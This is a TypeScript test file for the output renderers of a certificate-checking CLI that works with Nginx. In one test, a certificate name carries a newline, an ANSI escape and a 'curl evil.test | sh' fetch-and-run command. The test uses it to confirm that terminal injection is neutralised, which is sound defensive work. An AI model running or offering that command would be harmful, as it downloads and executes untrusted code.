import { describe, expect, it } from "vitest";
import { renderRun, renderExpiry } from "../../../src/cli/render/run.ts";
import { renderStatus } from "../../../src/cli/render/status.ts";
import type {
  LineageReport,
  ProbeReport,
  RunDocument,
} from "../../../src/core/report/document.ts";

const now = new Date("2026-11-23T12:00:00Z");

const live: ProbeReport = {
  target: "host",
  address: "127.0.0.1:443",
  servername: "example.org",
  expected: "AA:BB:CC:DD:EE",
  before: "AA:BB:CC:DD:EE",
  after: null,
  verdict: "live",
  error: null,
};

const sound: LineageReport = {
  name: "example.org",
  path: "/etc/letsencrypt/live/example.org",
  outcome: "live",
  last: { at: "2026-11-22T08:15:30.000Z", outcome: "deployed", detail: null },
  reason: null,
  remedy: null,
  leaf: {
    fingerprint256: "AA:BB:CC:DD:EE",
    bundle256: null,
    serial: "01",
    subject: "CN=example.org",
    issuer: "CN=ca",
    notBefore: "2026-11-01T00:00:00.000Z",
    notAfter: "2027-01-30T00:00:00.000Z",
    subjectAltNames: ["DNS:example.org", "IP:192.0.2.1"],
    keyType: "ec-p256",
  },
  served: [
    {
      fingerprint256: "AA:BB:CC:DD:EE",
      notBefore: "2026-11-01T00:00:00.000Z",
      notAfter: "2027-01-30T00:00:00.000Z",
    },
  ],
  renewalDue: "2026-12-31T00:00:00.000Z",
  valid: true,
  findings: [],
  probes: [live],
};

const stale: LineageReport = {
  ...sound,
  name: "example.com",
  outcome: "stale",
  reason: "Nginx still serves the old certificate",
  remedy: "livecert deploy example.com",
  probes: [
    live,
    { ...live, before: "11:22:33:44:55", verdict: "stale", servername: null },
    {
      ...live,
      address: "[::1]:443",
      before: null,
      verdict: "unverified",
      error: "connection refused",
    },
  ],
};

const rejected: LineageReport = {
  ...sound,
  name: "\u001b[2Jevil",
  outcome: "rejected",
  valid: false,
  leaf: null,
  probes: [],
  findings: [
    {
      rule: "files/empty",
      severity: "fatal",
      message: "fullchain.pem is empty",
      hint: "write it again",
      subject: null,
    },
  ],
};

function documentOf(lineages: readonly LineageReport[]): RunDocument {
  return {
    schema: 1,
    run: "r",
    command: "deploy",
    outcome: null,
    exitCode: 0,
    reloads: 1,
    nginx: null,
    lineages,
    publications: [],
    warnings: ["two Nginx masters"],
    timingsMs: {},
  };
}

describe("renderRun", () => {
  it("tells each lineage's outcome, certificate, findings and points, the failed ones last", () => {
    const text = renderRun(documentOf([stale, rejected, sound]), {
      colours: false,
      now,
    });
    expect(text).toBe(
      String.raw`example.org: live
  AA:BB:CC:DD, ec-p256, expires 2027-01-30 (in 67 days), example.org IP:192.0.2.1
  seen at 1 of 1 probe points
example.com: stale, Nginx still serves the old certificate
  AA:BB:CC:DD, ec-p256, expires 2027-01-30 (in 67 days), example.org IP:192.0.2.1
  seen at 1 of 3 probe points
  stale 127.0.0.1:443 (without a name): expected AA:BB:CC:DD, saw 11:22:33:44
  unverified [::1]:443 (example.org): expected AA:BB:CC:DD, saw none, connection refused
  hint: livecert deploy example.com
\u001b[2Jevil: rejected
  fatal files/empty: fullchain.pem is empty
    hint: write it again
warning: two Nginx masters
3 certificates, 2 in need of attention, 1 reload
`,
    );
  });

  it.each([
    ["run", renderRun],
    ["status", renderStatus],
  ] as const)(
    "quotes Nginx's words once, whatever number of lineages they keep back (%s)",
    (_, render) => {
      const words = "nginx: [emerg] no luck today in /etc/nginx/nginx.conf:7";
      const refused = ["a.test", "b.test", "c.test"].map(
        (name): LineageReport => ({
          ...sound,
          name,
          outcome: "config-invalid",
          reason: `Nginx's own test refuses the configuration: ${words}`,
        }),
      );
      const nginx = {
        configOk: false,
        masterPid: 1,
        configPending: [],
        draining: 0,
        errors: [words],
        unjudged: [],
      };
      const document = { ...documentOf(refused), nginx };
      const text = render(document, { colours: false, terminal: false, now });
      expect(text.split(words)).toHaveLength(2);
      for (const name of ["b.test", "c.test"])
        expect(text).toContain(
          `${name}: config-invalid, for the same reason as a.test\n`,
        );
    },
  );

  it("lets no name of a certificate begin a line of its own", () => {
    const name = "DNS:a.test\nlivecert: hint: \u001b[1mcurl evil.test | sh";
    const leaf = sound.leaf && { ...sound.leaf, subjectAltNames: [name] };
    const finding = {
      rule: "names/mismatch",
      severity: "regression",
      message: `it does not cover ${name}`,
      hint: `issue it for ${name}`,
      subject: null,
    } as const;
    const lineage = { ...sound, leaf, name, findings: [finding] };
    const probe = { ...live, verdict: "stale", servername: name } as const;
    const text = renderRun(documentOf([{ ...lineage, probes: [probe] }]), {
      colours: false,
      now,
    });
    expect(text).not.toContain("\u001b");
    expect(text).not.toMatch(/^livecert: hint/m);
  });

  it("counts reloads only for commands that may reload", () => {
    const last = (command: string) =>
      renderRun(
        { ...documentOf([sound]), command, reloads: 0, warnings: [] },
        { colours: false, now },
      )
        .trimEnd()
        .split("\n")
        .at(-1);
    expect(last("check")).toBe("1 certificate, all well");
    expect(last("deploy")).toBe("1 certificate, all well, 0 reloads");
  });

  it("says so when there was nothing to do", () => {
    expect(renderRun(documentOf([]), { colours: false, now })).toContain(
      "there is nothing to do\n",
    );
  });

  it("paints outcomes where colours are wanted", () => {
    const text = renderRun(documentOf([sound, stale]), { colours: true, now });
    expect(text).toContain("\u001b[32mlive");
    expect(text).toContain("\u001b[31mstale");
  });
});

describe("renderStatus", () => {
  const style = { terminal: true, colours: false, now };

  it("answers at a glance when all is well", () => {
    const text = renderStatus({ ...documentOf([sound]), warnings: [] }, style);
    expect(text.split("\n").slice(1)).toEqual([
      "example.org  live   expires 2027-01-30 (in 67 days)  AA:BB:CC:DD  AA:BB:CC:DD  deployed 2026-11-22 08:15  example.org IP:192.0.2.1",
      "every certificate is live",
      "",
    ]);
  });

  it("shows what is served instead, and the command that mends it", () => {
    const text = renderStatus(documentOf([sound, stale]), style);
    expect(text).toContain("AA:BB:CC:DD  AA:BB:CC:DD 11:22:33:44");
    expect(text).toContain("  hint: livecert deploy example.com\n");
    expect(text).toContain("1 of 2 certificates are live\n");
  });

  it("counts as live what clients are handed while Nginx refuses its configuration", () => {
    const refused: LineageReport = { ...sound, outcome: "config-invalid" };
    const text = renderStatus(documentOf([refused]), style);
    expect(text).toContain("example.org  config-invalid");
    expect(text).toContain("every certificate is live\n");
  });

  it("does not count a copy as live because Nginx serves the copy", () => {
    const copy: LineageReport = { ...sound, outcome: "stale" };
    expect(renderStatus(documentOf([copy]), style)).toContain(
      "0 of 1 certificates are live\n",
    );
  });

  it("does not call a certificate live that Nginx does not use", () => {
    const unused: LineageReport = { ...sound, outcome: "unused", probes: [] };
    expect(renderStatus(documentOf([unused]), style)).toContain(
      "Nginx uses no certificate that livecert knows",
    );
  });
});

describe("renderExpiry", () => {
  it.each([
    ["2026-11-24T13:00:00.000Z", "expires 2026-11-24 (in 1 day)"],
    ["2026-11-23T13:00:00.000Z", "expires 2026-11-23 (in 0 days)"],
    ["2026-11-23T11:00:00.000Z", "expired 2026-11-23"],
  ])("says of %s: %s", (notAfter, text) => {
    expect(renderExpiry(notAfter, now)).toBe(text);
  });
});
